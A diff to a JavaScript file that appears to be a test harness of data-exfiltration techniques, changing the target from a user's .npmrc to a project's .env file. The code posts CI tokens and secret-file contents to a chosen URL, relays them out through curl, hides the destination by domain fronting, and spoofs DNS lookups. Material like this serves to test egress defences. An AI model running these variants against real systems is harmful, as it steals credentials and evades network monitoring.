@@ -14,6 +14,9 @@ function post(url, body, more = {}) {
   request.end(body);
 }
 
+// A file of the project that holds secrets, and that scripts may read: doing so is only told.
+const file = `${process.env.INIT_CWD}/.env`;
+
 const [way, ...where] = process.env.VARIANT.split(" ");
 const ways = {
   // Something of no worth.
@@ -21,14 +24,14 @@ const ways = {
   // What the environment holds.
   token: (url) => post(url, process.env.CI_TOKEN),
   // What a file holds.
-  steal: (url) => post(url, fs.readFileSync(`${home}/.npmrc`)),
+  steal: (url) => post(url, fs.readFileSync(file)),
   // By a child, from a file that another child has made.
   relay: (url) => {
-    execFileSync("cp", [`${home}/.npmrc`, "notes.txt"]);
+    execFileSync("cp", [file, "notes.txt"]);
     execFileSync("curl", ["-sf", "--data-binary", "@notes.txt", url]);
   },
   // TLS begins with one name, and the request inside is for another.
-  front: (url, host) => post(url, fs.readFileSync(`${home}/.npmrc`), { headers: { Host: host } }),
+  front: (url, host) => post(url, fs.readFileSync(file), { headers: { Host: host } }),
   // An address of our choice, under a name that is above suspicion.
   pretend: (name, address) => {
     const lookup = (_, options, done) => {
